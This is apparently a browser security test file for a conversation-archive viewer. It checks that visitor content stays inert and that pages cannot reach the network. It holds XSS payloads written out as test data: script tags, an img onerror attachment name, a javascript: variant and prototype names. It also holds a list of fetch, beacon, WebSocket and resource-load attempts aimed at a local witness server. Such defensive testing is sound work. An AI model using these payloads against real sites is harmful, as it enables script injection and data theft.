import { attackRecords, payloads } from './attacks';
import { archiveFolder } from './folder';
import { browser, witness } from './open';

/** Goes to addresses in the page, to the end of every list, and gives what of harm has come to be on the way. The browser evaluates it, so it is text. */
const patrol = (routes: Array<[view: string, id: string]>) => `(async () => {
	const frame = () => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
	const problems = [];
	const look = (where) => {
		const report = (what) => problems.push(where + ': ' + what);
		if (typeof hacked !== 'undefined' || {}.hacked !== undefined) report('something has run');
		const foreign = 'iframe, object, embed, form, style, base, svg, math, video, audio, script:not([src="viewer.js"]), img:not([src^="attachment-"])';
		for (const element of document.querySelectorAll(foreign)) report(element.outerHTML);
		for (const element of document.querySelectorAll('*'))
			for (const name of element.getAttributeNames()) if (/^on|^srcdoc$/.test(name)) report(name);
		for (const { style } of document.querySelectorAll('[style]')) if (/[a-z]/.test(style.cssText.replace(/(top|height): [0-9]+px;/g, ''))) report(style.cssText);
		for (const link of document.links) {
			const href = link.getAttribute('href');
			if (!/^(#\\/|https?:\\/\\/|attachment-|report\\.html$)/.test(href) || /^attachment-.*(html?|svg|js)$/i.test(href)) report(href);
		}
		if (document.documentElement.scrollWidth > innerWidth) report('wider than the window');
	};
	const list = document.getElementById('list');
	for (const [view, id] of ${JSON.stringify(routes)}) {
		const hash = '#/' + view + (id === '' ? '' : '/' + encodeURIComponent(id.toWellFormed()));
		location.hash = hash;
		await frame();
		look(hash);
		if (id !== '') continue;
		for (list.scrollTop = 0; list.scrollTop + list.clientHeight + 1 < list.scrollHeight; list.scrollTop += list.clientHeight) {
			await frame();
			look(hash + ' at ' + list.scrollTop);
		}
	}
	return problems;
})()`;

let outside: Awaited<ReturnType<typeof witness>>;
let archive: ReturnType<typeof archiveFolder>;
beforeAll(async () => {
	outside = await witness();
	archive = archiveFolder([attackRecords(outside.url)], {
		// a page that calls itself a picture
		'attachment-402-_img src=x onerror=_hacked = 1__.png': '<script>parent.hacked = 1</script>',
	});
});
afterAll(() => {
	outside.close();
	archive.remove();
});

describe.each(['Chromium', 'Firefox'] as const)('in %s', (name) => {
	const { open } = browser(name);

	it('what visitors write is shown and does nothing', async () => {
		const { page, misdeeds } = await open(archive.url);
		await page.locator('summary').click();
		const all = payloads(outside.url);
		const names = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '%', 'nobody'];
		const problems = await page.evaluate<string[]>(
			patrol([
				['conversations', ''],
				...[...[...all.keys()].map((index) => String(1_000 + index)), ...names].map((id): [string, string] => [
					'conversation',
					id,
				]),
				['contacts', ''],
				...[...[...all.keys()].map((index) => String(100 + index)), ...all, ...names].map((id): [string, string] => [
					'contact',
					id,
				]),
				['__proto__', 'constructor'],
				['conversation', '9999'],
			]),
		);
		expect(problems).toEqual([]);
		const text = await page.locator('.transcript').innerText();
		for (const shown of ['<script>hacked = 1</script>', 'java\tscript:hacked = 1', "');hacked = 1;//"])
			expect(text).toContain(shown);
		for (const query of ['<img src=x onerror=hacked=1>', 'hacked', '__proto__', '(.*', '\\']) {
			await page.evaluate("document.getElementById('count').textContent = ''");
			await page.locator('#query').fill(query);
			await page.locator('#count', { hasText: /./ }).waitFor();
			expect(await page.evaluate<string[]>(patrol([['conversations', '']]))).toEqual([]);
		}
		expect(misdeeds).toEqual([]);
		expect(outside.calls).toEqual([]);
	});

	it('a link in a message leads to the web only, and tells it nothing', async () => {
		const { page } = await open(archive.url);
		await page.evaluate(
			`location.hash = '#/conversation/${1_000 + payloads('').findIndex((text) => text.startsWith('https'))}'`,
		);
		const link = page.locator('.message a[href^=http]').first();
		expect(await link.getAttribute('href')).toBe('https://example.com/');
		expect(await link.getAttribute('rel')).toBe('noopener noreferrer');
	});

	it('even a script that got in could not call home', async () => {
		const { page } = await open(archive.url);
		const tries = [
			`fetch('${outside.url}/fetch')`,
			`new Image().src = '${outside.url}/image'`,
			`navigator.sendBeacon('${outside.url}/beacon')`,
			`document.head.append(Object.assign(document.createElement('script'), { src: '${outside.url}/script' }))`,
			`document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${outside.url}/style' }))`,
			`document.body.append(Object.assign(document.createElement('iframe'), { src: '${outside.url}/frame' }))`,
			`new WebSocket('${outside.url.replace('http', 'ws')}/socket')`,
			`document.body.insertAdjacentHTML('beforeend', '<p style="background: url(${outside.url}/style)" onclick="hacked = 1">x</p>')`,
		];
		for (const attempt of tries) await page.evaluate(`void (async () => { return ${attempt}; })().catch(() => {})`);
		await page.evaluate('document.body.lastElementChild.click()');
		await page.waitForTimeout(500);
		expect(await page.evaluate('typeof hacked')).toBe('undefined');
		expect(outside.calls).toEqual([]);
	});
});
